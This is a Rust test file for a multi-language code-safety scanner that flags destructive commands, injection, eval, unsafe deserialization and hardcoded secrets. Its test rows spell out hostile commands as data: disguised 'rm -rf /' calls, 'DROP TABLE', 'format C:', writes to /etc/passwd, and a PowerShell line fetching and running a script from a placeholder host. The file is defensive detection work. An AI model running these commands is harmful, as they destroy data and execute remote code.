use std::sync::OnceLock;

use proptest::prelude::*;
use ringfence_model::finding::{Category, Severity};
use ringfence_model::json::JsonText;

use super::sql::Dialect;
use super::*;

fn secrets() -> &'static SecretScanner {
    static SECRETS: OnceLock<SecretScanner> = OnceLock::new();
    SECRETS.get_or_init(|| SecretScanner::new().unwrap())
}

fn run(language: &str, text: &str) -> Report {
    check(text, &Language::parse(language), secrets())
}

#[track_caller]
fn all(language: &str, verdict: Safety, rows: &[(&str, &str)]) {
    let mut wrong = Vec::new();
    for (text, id) in rows {
        let report = run(language, text);
        let first = report.findings.first().map_or("", |finding| finding.id.as_ref());
        if report.verdict != verdict || first != *id {
            wrong.push(format!("{text:?}: {:?} {first:?}, not {verdict:?} {id:?}", report.verdict));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn what_is_missing_before_a_long_character_stands_where_that_is() {
    for language in ["typescript", "rust", "go", "java", "c", "csharp", "php", "ruby", "python"] {
        for text in ["fn f() {Ó", "f(Ó", "{Ó", "new do |x|Ó", "x = {é", "if (a) {é"] {
            for finding in run(language, text).findings {
                let span = finding.span.start..finding.span.end;
                assert!(text.get(span).is_some(), "{language} {text:?}: {finding:?}");
            }
        }
    }
}

#[test]
fn the_examples_of_the_seeds_come_out_right() {
    let text = "await db.query('DROP TABLE users')";
    let report = run("javascript", text);
    assert_eq!(report.verdict, Safety::Unsafe);
    assert_eq!(report.findings.len(), 1);
    let finding = &report.findings[0];
    assert_eq!(
        (finding.id.as_ref(), finding.category, finding.severity),
        ("drop_table", Category::Sql, Severity::Critical)
    );
    assert_eq!(finding.message, "Destructive SQL: DROP operation detected");
    assert_eq!(
        finding.alternative.as_deref(),
        Some("Consider using soft delete or archiving instead of DROP")
    );
    assert_eq!(finding.reference.as_deref(), Some("CWE-89"));
    assert_eq!(text.get(finding.span.start..finding.span.end).unwrap(), "db.query('DROP TABLE users')");
    assert_eq!(run("python", "import os; os.system('rm -rf /')").findings[0].id, "rm_root");
}

#[test]
fn python_that_harms_is_seen() {
    all(
        "python",
        Safety::Unsafe,
        &[
            ("subprocess.run(['rm', '-rf', '/'])", "rm_root"),
            ("subprocess.run('rm -rf /', shell=True)", "rm_root"),
            ("import subprocess as sp\nsp.Popen(args=['rm','-rf','/'])", "rm_root"),
            ("from os import system as s\ns('rm -rf /')", "rm_root"),
            ("from os import *\nsystem('rm -rf /')", "rm_root"),
            ("run = os.system\nrun('rm -rf /')", "rm_root"),
            ("os . system('rm -rf /')", "rm_root"),
            ("os.system(\n  'rm '\n  '-rf /'\n)", "rm_root"),
            ("cmd = 'rm -rf /'\nos.system(cmd)", "rm_root"),
            ("os.system('rm' + ' -rf /')", "rm_root"),
            ("__import__('os').system('rm -rf /')", "rm_root"),
            ("importlib.import_module('os').system('rm -rf /')", "rm_root"),
            ("os.execvp('rm', ['rm', '-rf', '/'])", "rm_root"),
            ("print(f\"{os.system('rm -rf /')}\")", "rm_root"),
            ("getattr(os, 'sys' + 'tem')('ls')", "reflection"),
            ("getattr(os, name)('ls')", "reflection"),
            ("os.system(f'ls {name}')", "shell_injection"),
            ("os.system('ls ' + name)", "shell_injection"),
            ("os.system('ls %s' % name)", "shell_injection"),
            ("subprocess.run(cmd, shell=True)", "shell_injection"),
            ("eval(input())", "eval"),
            ("exec(code)", "exec"),
            ("shutil.rmtree('/')", "rm_root"),
            ("shutil.rmtree(path)", "shutil_rmtree"),
            ("os.setuid(0)", "setuid_root"),
            ("os.seteuid(0)", "setuid_root"),
            ("pickle.loads(data)", "unsafe_deserialization"),
            ("yaml.load(text)", "unsafe_deserialization"),
            ("cursor.execute('DELETE FROM users')", "delete_all"),
            ("cur.execute(\"\"\"\n  DROP TABLE users\n\"\"\")", "drop_table"),
            ("q = 'TRUNCATE TABLE t'\nconn.execute(q)", "truncate_table"),
            ("open('/etc/passwd', 'w')", "protected_write"),
            ("open('/dev/sda', 'wb')", "write_device"),
            ("password = 'hunter2'", "hardcoded_password"),
            ("db = connect(user='x', passwd=\"s3cr3t!\")", "hardcoded_password"),
            ("API_KEY = 'abcdef1234567890abcdef'", "hardcoded_api_key"),
            ("config = {'api_key': 'abcdef1234567890abcdef'}", "hardcoded_api_key"),
        ],
    );
}

#[test]
fn python_that_does_not_is_safe() {
    all(
        "python",
        Safety::Safe,
        &[
            ("def add(a, b):\n    return a + b\n", ""),
            ("# os.system('rm -rf /')", ""),
            ("\"\"\"Never call eval(x) or run sudo rm -rf /.\"\"\"", ""),
            ("model.eval()\ndf.eval('a + b')", ""),
            ("re.compile(r'x').match(s)", ""),
            ("logger.info('DROP TABLE users')", ""),
            ("ast.literal_eval(text)", ""),
            ("password = os.environ['PASSWORD']", ""),
            ("password = '<your password>'", ""),
            ("password = '${PWD}'\npassword: str = ''", ""),
            ("password_field = 'password'", ""),
            ("cursor.execute('SELECT * FROM t WHERE id = %s', (id,))", ""),
            ("subprocess.run(['ls', '-la', path])", ""),
            ("tmp = tempfile.mkdtemp()\nshutil.rmtree(tmp)", ""),
            ("yaml.load(text, Loader=yaml.SafeLoader)", ""),
            ("print(f'{a} {b!r:>10}')", ""),
            ("x = {'a': [1, 2, (3,)]}\nfor k in x: print(k)", ""),
            ("os.setuid(1000)", ""),
            ("def eval_model(m): return m", ""),
            ("items.get('query')", ""),
        ],
    );
    all(
        "python",
        Safety::Unknown,
        &[
            ("os.system(cmd)", "unresolved_call"),
            ("subprocess.run(cmd)", "unresolved_call"),
            ("handlers[name](x)", "unresolved_call"),
            ("importlib.import_module(name)", "dynamic_import"),
            ("cursor.execute(f'SELECT * FROM t WHERE id = {id}')", "sql_concatenation"),
            ("os.remove(path)", "remove_file"),
            ("x = 'unclosed", "unparsed"),
            ("foo(1", "unparsed"),
            ("аdmin\u{200b} = 1", "deceptive_character"),
        ],
    );
}

#[test]
fn javascript_is_judged_by_its_calls() {
    all(
        "typescript",
        Safety::Unsafe,
        &[
            ("require('child_process').execSync('rm -rf /')", "rm_root"),
            ("const { exec: e } = require('node:child_process');\ne('rm -rf /')", "rm_root"),
            ("import * as cp from 'child_process';\ncp.spawn('rm', ['-rf', '/'])", "rm_root"),
            ("import { execSync } from \"child_process\"\nexecSync(`rm -rf /`)", "rm_root"),
            ("await $`rm -rf /`", "rm_root"),
            ("execSync(`ls ${dir}`)", "shell_injection"),
            ("eval(code)", "eval"),
            ("new Function('return 1')()", "eval"),
            ("window['ev' + 'al'](x)", "reflection"),
            ("setTimeout('alert(1)', 10)", "eval"),
            ("fs.rmSync('/', { recursive: true })", "rm_root"),
            ("fs.rmSync(dir, { recursive: true, force: true })", "remove_tree"),
            ("const q = `DELETE FROM users`;\npool.query(q)", "delete_all"),
            ("await knex.schema.dropTable('users')", "drop_table"),
            ("const x = `${require('child_process').execSync('rm -rf /')}`", "rm_root"),
            ("const password = \"hunter2!\";", "hardcoded_password"),
        ],
    );
    all(
        "javascript",
        Safety::Safe,
        &[
            ("const add = (a, b) => a + b;", ""),
            ("// eval(x)\n/* rm -rf / */", ""),
            ("const m = /eval\\(['\"]/.exec(text);", ""),
            ("regex.exec(str)", ""),
            ("console.log('DROP TABLE users')", ""),
            ("setTimeout(() => done(), 100)", ""),
            ("interface User { password: string; name: string }", ""),
            ("type T = { password: 'string' }", ""),
            ("fetch(url).then(r => r.json())", ""),
            ("db.query('SELECT * FROM t WHERE id = $1', [id])", ""),
            ("search.query('drop me a line')", ""),
            ("const a = b / c / d; const s = `x ${a} y`", ""),
        ],
    );
}

#[test]
fn other_languages_are_looked_through() {
    for (language, text, id) in [
        ("go", "exec.Command(\"rm\", \"-rf\", \"/\").Run()", "rm_root"),
        ("go", "db.Exec(`DROP TABLE users`)", "drop_table"),
        ("rust", "std::process::Command::new(\"sh\").arg(\"-c\").arg(\"rm -rf /\")", "rm_root"),
        ("java", "Runtime.getRuntime().exec(\"rm -rf /\");", "rm_root"),
        ("java", "stmt.executeUpdate(\"DELETE FROM users\");", "delete_all"),
        ("c", "int main() { system(\"rm -rf /\"); }", "rm_root"),
        ("php", "<?php shell_exec('rm -rf /'); ?>", "rm_root"),
        ("php", "<?php `rm -rf /`;", "rm_root"),
        ("php", "$db->query(\"DROP TABLE users\");", "drop_table"),
        ("ruby", "system 'rm -rf /'", "rm_root"),
        ("ruby", "x = `rm -rf /`", "rm_root"),
        ("perl", "system(\"rm -rf /\");", "rm_root"),
        ("dockerfile", "FROM x\nRUN ls && \\\n  rm -rf /\n", "rm_root"),
        ("yaml", "db:\n  password: hunter2x\n", "hardcoded_password"),
        ("env", "export API_KEY=abcdef1234567890abcdef", "hardcoded_api_key"),
        ("powershell", "Remove-Item -Recurse -Force C:\\", "rm_root"),
        ("powershell", "iex (iwr https://x.example/a.ps1)", "pipe_to_shell"),
        ("cmd", "format C: /q", "format_drive"),
        ("bat", "del /s /q C:\\*", "rm_root"),
        ("brainfuzz", "os.system('rm -rf /')", "rm_root"),
    ] {
        let report = run(language, text);
        assert_eq!(report.verdict, Safety::Unsafe, "{language}: {text}");
        assert_eq!(report.findings[0].id, id, "{language}: {text}");
    }
    assert_eq!(run("brainfuzz", "x := 1").verdict, Safety::Unknown);
    assert_eq!(run("go", "func main() { fmt.Println('a', \"b\") }").verdict, Safety::Safe);
    assert_eq!(run("rust", "fn f<'a>(x: &'a str) -> char { 'x' }").verdict, Safety::Safe);
    assert_eq!(run("yaml", "password: ${DB_PASSWORD}\nname: x\n").verdict, Safety::Safe);
}

#[test]
fn a_credential_makes_any_code_unsafe() {
    let token = ["gl", "pat-", "Zx3kQ9vT1mB7", "nR5sW2yL"].concat();
    for language in ["python", "javascript", "sql", "bash", "yaml"] {
        let text = match language {
            "sql" => format!("SELECT '{token}'"),
            "bash" => format!("echo {token}"),
            "yaml" => format!("x: {token}"),
            _ => format!("x = '{token}'"),
        };
        let report = run(language, &text);
        assert_eq!(
            (report.verdict, report.findings[0].id.as_ref()),
            (Safety::Unsafe, "gitlab_token"),
            "{language}"
        );
        assert!(!report.findings[0].message.contains(&token));
    }
    assert_eq!(run("bash", "export DB_PASSWORD=hunter2x").findings[0].id, "hardcoded_password");
    assert_eq!(run("bash", "DB_PASSWORD=$(cat pw.txt) ls").verdict, Safety::Safe);
}

#[test]
fn the_worst_finding_leads() {
    let report = run("python", "os.remove(x)\neval(x)\nos.system('rm -rf /')\n");
    let order: Vec<(&str, Severity)> =
        report.findings.iter().map(|finding| (finding.id.as_ref(), finding.severity)).collect();
    assert_eq!(
        order,
        [("rm_root", Severity::Critical), ("eval", Severity::High), ("remove_file", Severity::Medium)]
    );
}

#[test]
fn languages_are_known_by_their_names() {
    for (name, language) in [
        ("Bash", Language::Shell),
        (" zsh ", Language::Shell),
        ("postgresql", Language::Sql(Dialect::Postgres)),
        ("SQL", Language::Sql(Dialect::Any)),
        (".py", Language::Python),
        ("TypeScript", Language::TypeScript),
        ("C#", Language::CSharp),
        ("cobol", Language::Other("cobol".to_owned())),
    ] {
        assert_eq!(Language::parse(name), language, "{name}");
    }
}

fn arguments(text: &str) -> Vec<(String, Safety, String)> {
    let json = JsonText::try_from(text.to_owned()).unwrap();
    scan_arguments(json.value(), secrets(), argument_kind)
        .into_iter()
        .map(|found| {
            (
                found.pointer,
                found.verdict,
                found.findings.first().map(|finding| finding.id.to_string()).unwrap_or_default(),
            )
        })
        .collect()
}

#[test]
fn arguments_that_are_code_are_inspected() {
    for (text, pointer, id) in [
        (r#"{"command":"rm -rf /"}"#, "/command", "rm_root"),
        (r#"{"cmd":["rm","-rf","/"]}"#, "/cmd", "rm_root"),
        (r#"{"command":"rm","args":["-rf","/"]}"#, "/command", "rm_root"),
        (r#"{"command":["bash","-c","rm -rf /"]}"#, "/command", "rm_root"),
        (r#"{"commands":["ls -la","rm -rf /"]}"#, "/commands", "rm_root"),
        (r#"{"shell_command":"\u0072m -rf /"}"#, "/shell_command", "rm_root"),
        (r#"{"sql":"DROP TABLE users"}"#, "/sql", "drop_table"),
        (r#"{"query":"DELETE FROM users"}"#, "/query", "delete_all"),
        (r#"{"query":"/*!50000 DROP */ TABLE users"}"#, "/query", "drop_table"),
        (r#"{"query":"EXPLAIN ANALYZE DELETE FROM users"}"#, "/query", "delete_all"),
        (r#"{"sql":"TRUNCATE users"}"#, "/sql", "truncate_table"),
        (r#"{"sql":"DR/**/OP TABLE users"}"#, "/sql", "sql_disguised"),
        (r#"{"code":"os.system('rm -rf /')","language":"python"}"#, "/code", "rm_root"),
        (r##"{"code":"#!/bin/sh\nrm -rf /"}"##, "/code", "rm_root"),
        (r#"{"code":"import os\nos.system('rm -rf /')"}"#, "/code", "rm_root"),
    ] {
        assert_eq!(arguments(text), [(pointer.to_owned(), Safety::Unsafe, id.to_owned())], "{text}");
    }
    for text in [
        r#"{"query":"drop me a line about the table"}"#,
        r#"{"query":"how do I delete from a list?"}"#,
        r#"{"query":"explain the plan for the table"}"#,
        r#"{"query":"SELECT name FROM users WHERE id = 1"}"#,
        r#"{"command":"git status"}"#,
        r#"{"text":"rm -rf /","title":"DROP TABLE users"}"#,
        r#"{"command":7,"code":null}"#,
        "[]",
    ] {
        assert_eq!(arguments(text), [], "{text}");
    }
}

#[test]
fn hostile_code_ends() {
    for language in
        ["python", "javascript", "php", "ruby", "rust", "cobol", "yaml", "powershell", "dockerfile"]
    {
        for unit in [
            "(",
            "'",
            "\"",
            "`",
            "${",
            "`${",
            "f\"{",
            "/*",
            "/",
            "[](",
            "a.",
            "a=",
            "eval(",
            "os.system('",
            "import a as a,",
            "const {",
            "x[",
            "<<",
            "#{",
        ] {
            let text = unit.repeat((1 << 15) / unit.len());
            let report = run(language, &text);
            assert!(
                report.findings.iter().all(|finding| finding.span.end <= text.len()),
                "{language} {unit}"
            );
        }
    }
}

/// The work of each text is counted (`Findings::spend`, the parser's own steps) and bounded by its length: what ends here
/// ends on any machine.
#[test]
fn long_and_deep_texts_end_in_every_language_and_are_not_safe() {
    let long = "a".repeat(10 << 20);
    let deep = format!("{}{}", "(".repeat(20_000), ")".repeat(20_000));
    let open = "{".repeat(100_000);
    let quotes = "'\"".repeat(50_000);
    for language in [
        "bash",
        "powershell",
        "cmd",
        "sql",
        "python",
        "javascript",
        "typescript",
        "go",
        "rust",
        "java",
        "ruby",
        "php",
        "csharp",
        "c",
        "cpp",
        "perl",
    ] {
        for (name, text) in [("long", &long), ("deep", &deep), ("open", &open), ("quotes", &quotes)] {
            let report = run(language, text);
            assert!(
                report.findings.iter().all(|finding| finding.span.end <= text.len()),
                "{language} {name}"
            );
            if name != "deep" {
                assert_ne!(report.verdict, Safety::Safe, "{language} {name}");
            }
        }
    }
}

proptest! {
    #[test]
    fn any_code_is_judged(text in "[a-z.()\\[\\]{}'\"`$#/*=+, \n\\\\]{0,120}", language in prop::sample::select(vec!["python", "js", "php", "ruby", "go", "x"])) {
        let report = run(language, &text);
        for finding in &report.findings {
            prop_assert!(text.get(finding.span.start..finding.span.end).is_some());
        }
        let safe = report.findings.iter().all(|finding| finding.severity < Severity::Medium);
        prop_assert_eq!(report.verdict == Safety::Safe, safe);
    }
}

/// Each rule is a constant of its own.
#[test]
fn the_number_of_rules_is_that_of_the_sources() {
    let mut folders = vec![std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("src/code")];
    let mut rules = 0;
    while let Some(folder) = folders.pop() {
        for path in std::fs::read_dir(folder).unwrap().map(|entry| entry.unwrap().path()) {
            if path.is_dir() {
                folders.push(path);
            } else {
                let text = String::from_utf8(std::fs::read(&path).unwrap()).unwrap();
                let is_rule = |line: &&str| line.contains("const ") && line.contains(": Rule =");
                rules += text.lines().filter(is_rule).count();
            }
        }
    }
    assert_eq!(rules, super::RULES + 1, "one is the line above that looks for them");
}
